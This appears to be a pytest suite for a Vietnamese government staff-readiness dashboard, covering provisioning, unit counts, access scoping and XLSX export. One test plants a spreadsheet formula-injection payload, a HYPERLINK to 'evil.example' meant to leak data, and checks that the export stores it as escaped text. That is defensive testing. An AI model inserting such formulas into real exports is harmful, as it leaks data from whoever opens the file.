import io

import pytest
from openpyxl import load_workbook

from thongsuot.accounts.services import provisioning_apply, provisioning_preview
from thongsuot.readiness.selectors import readiness_board

pytestmark = pytest.mark.django_db


def provision(admin, org, roles):
    lines = ["Họ tên,Email,Vai trò,Đơn vị"] + [f"Người {r},{r}.{org.seq}@x.test,{r},{org.code}" for r in roles]
    batch, _ = provisioning_preview(uploader=admin, data="\n".join(lines).encode(), filename="l.csv")
    provisioning_apply(actor=admin, batch=batch)


def test_board_counts_and_missing_roles(centre_admin, ben_thanh, sai_gon):
    provision(centre_admin, ben_thanh, ["leader", "clerk"])
    rows = {r.organisation.pk: r for r in readiness_board(user=centre_admin)}
    assert len(rows) == 168
    row = rows[ben_thanh.pk]
    assert (row.configured, row.activated, row.signed_in, row.list_received) == (2, 0, 0, True)
    assert row.status == "incomplete"
    assert "Văn thư" not in row.missing_roles and "Cán bộ một cửa" in row.missing_roles
    assert rows[sai_gon.pk].status == "no_list"


def test_a_unit_with_every_role_activated_is_ready(centre_admin, ben_thanh):
    provision(centre_admin, ben_thanh, ["leader", "clerk", "unit_admin", "one_stop_officer", "feedback_handler"])
    ben_thanh.staff.update(activated_at="2025-06-20T08:00:00+07:00")
    row = next(r for r in readiness_board(user=centre_admin, status="ready"))
    assert row.organisation == ben_thanh
    assert [r.organisation for r in readiness_board(user=centre_admin, status="ready")] == [ben_thanh]


def test_filters_by_type(centre_admin):
    assert len(readiness_board(user=centre_admin, division_type="xa")) == 54
    assert len(readiness_board(user=centre_admin, division_type="dac_khu")) == 1


def test_ward_staff_see_only_their_unit_on_page_and_api(login, client, ward_admin, ben_thanh):
    rows = readiness_board(user=ward_admin)
    assert [r.organisation for r in rows] == [ben_thanh]
    page = login(ward_admin).get("/san-sang/")
    assert "Phường Bến Thành" in page.content.decode() and "Phường Sài Gòn" not in page.content.decode()
    assert [u["name"] for u in client.get("/api/v1/readiness/units").json()] == ["Phường Bến Thành"]


def test_city_leader_sees_every_unit(city_leader):
    assert len(readiness_board(user=city_leader)) == 168


def test_xlsx_export_has_every_unit(login, centre_admin):
    response = login(centre_admin).get("/san-sang/export.xlsx", {"type": "xa"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 1 + 54
    assert all(r[0].endswith(".H29") for r in rows[1:])


def test_xlsx_export_writes_a_name_like_a_formula_as_text(login, centre_admin, ben_thanh):
    from thongsuot.directory.models import Organisation

    evil = '=HYPERLINK("http://evil.example/?leak","x")'
    Organisation.objects.filter(pk=ben_thanh.pk).update(name=evil)
    response = login(centre_admin).get("/san-sang/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
    assert [(c.data_type, c.value) for c in cells] == [("s", "'" + evil)]


def test_the_board_says_what_an_incomplete_unit_lacks(login, client, centre_admin, ward_admin, ben_thanh):
    provision(centre_admin, ben_thanh, ["leader", "clerk"])
    page = login(ward_admin).get("/san-sang/").content.decode()
    row = page.split("<td>Phường Bến Thành</td>", 1)[1].split("</tr>", 1)[0]
    # the ward administrator is an activated account too: 3 configured, 2 of them not activated
    assert "Chưa đủ: chưa có " in row and "Cán bộ một cửa" in row.split("Chưa đủ:", 1)[1]
    assert "2 tài khoản chưa kích hoạt" in row
    export = login(ward_admin).get("/san-sang/export.xlsx")
    sheet = load_workbook(io.BytesIO(export.content)).active
    status = next(r for r in sheet.iter_rows(values_only=True) if r[1] == "Phường Bến Thành")[-1]
    assert status.startswith("Chưa đủ: chưa có ") and "2 tài khoản chưa kích hoạt" in status
